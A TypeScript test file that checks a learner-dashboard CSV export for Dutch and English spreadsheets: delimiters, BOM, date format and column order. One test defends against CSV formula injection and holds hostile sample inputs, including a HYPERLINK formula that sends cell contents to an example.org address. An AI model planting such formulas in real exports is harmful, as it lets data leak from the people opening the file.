import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { dashboardCsv, type Dashboard } from '../../src/lib/dashboard-csv';

describe('dashboard CSV', () => {
	it('opens in a Dutch spreadsheet: semicolons, BOM, quotes around awkward names', () => {
		const d: Dashboard = {
			cohort: { id: 'c', name: 'Groep', joinCode: 'ABCDEFGH', codeOpen: true },
			assignments: [{ id: 'a', course: 'basis', due: '' }],
			learners: [
				{ id: '1', name: 'Zoë; "Jansens"', lastActivity: '2026-11-23 10:00:00.000Z', courses: { basis: { percent: 40, steps: 2, tests: 0, certificate: false } } },
				{ id: '2', name: 'Luc', lastActivity: '', courses: {} },
				{ id: '3', name: 'Mira', lastActivity: '2026-03-05 10:00:00.000Z', courses: {} },
			],
			blocked: [],
			lessons: {},
			minGroup: 5,
			items: {},
			choices: {},
			selfCheck: {},
		};
		const csv = dashboardCsv(d, { basis: 'Basis palliatieve zorg' }, { learner: 'Cursist', lastActivity: 'Laatste activiteit', certificate: 'certificaat', yes: 'ja', no: 'nee' }, 'nl');
		expect(csv.startsWith('\uFEFFCursist;Laatste activiteit;Basis palliatieve zorg (%);Basis palliatieve zorg: certificaat\r\n')).toBe(true);
		const parsed = Papa.parse<string[]>(csv.slice(1), { delimiter: ';' }).data;
		expect(parsed[1]).toEqual(['Zoë; "Jansens"', '23/11/2026', '40', 'nee']);
		expect(parsed[2]).toEqual(['Luc', '', '0', 'nee']);
		// Day and month always in two digits, so the column sorts and reads alike.
		expect(parsed[3]).toEqual(['Mira', '05/03/2026', '0', 'nee']);
	});

	it('cannot run a formula: cells starting with = + - @ tab or carriage return are neutralised (issue 18)', () => {
		const names = ['=1+1', '+31 470 12 34 56', '-2+3', '@SUM(A1:A9)', '=HYPERLINK("http://example.org/?x="&A1;"klik")', '\t=1+1', '\r=1+1', 'An = gewoon'];
		const d: Dashboard = {
			cohort: { id: 'c', name: 'Groep', joinCode: 'ABCDEFGH', codeOpen: true },
			assignments: [{ id: 'a', course: 'basis', due: '' }],
			learners: names.map((name, i) => ({ id: String(i), name, lastActivity: '', courses: { basis: { percent: 10, steps: 1, tests: 0, certificate: false } } })),
			blocked: [],
			lessons: {},
			minGroup: 5,
			items: {},
			choices: {},
			selfCheck: {},
		};
		const csv = dashboardCsv(d, { basis: '=Basis' }, { learner: 'Cursist', lastActivity: 'Laatste activiteit', certificate: 'certificaat', yes: 'ja', no: 'nee' }, 'nl');
		const rows = Papa.parse<string[]>(csv.slice(1), { delimiter: ';', skipEmptyLines: true }).data;
		expect(rows).toHaveLength(names.length + 1);
		for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
		// The text itself is kept, after the apostrophe a spreadsheet shows as plain text.
		expect(rows.slice(1).map((r) => r[0])).toEqual(names.map((n) => (/^[=+\-@\t\r]/.test(n) ? `'${n}` : n)));
		expect(rows[0]![2]).toBe("'=Basis (%)");
	});

	it('has two columns per assigned course in the order of the assignments; a course without a title shows its id; a certificate says yes', () => {
		const d: Dashboard = {
			cohort: { id: 'c', name: 'Groep', joinCode: 'ABCDEFGH', codeOpen: true },
			assignments: [
				{ id: 'a', course: 'basis', due: '' },
				{ id: 'b', course: 'praktijk', due: '' },
			],
			learners: [{ id: '1', name: 'An', lastActivity: '2026-12-07T08:00:00Z', courses: { praktijk: { percent: 100, steps: 9, tests: 9, certificate: true } } }],
			blocked: [],
			lessons: {},
			minGroup: 5,
			items: {},
			choices: {},
			selfCheck: {},
		};
		const csv = dashboardCsv(d, { basis: 'Basic palliative care' }, { learner: 'Learner', lastActivity: 'Last activity', certificate: 'certificate', yes: 'yes', no: 'no' }, 'en');
		const rows = Papa.parse<string[]>(csv.slice(1), { delimiter: ';', skipEmptyLines: true }).data;
		expect(rows).toEqual([
			['Learner', 'Last activity', 'Basic palliative care (%)', 'Basic palliative care: certificate', 'praktijk (%)', 'praktijk: certificate'],
			['An', '07/12/2026', '0', 'no', '100', 'yes'],
		]);
	});
});
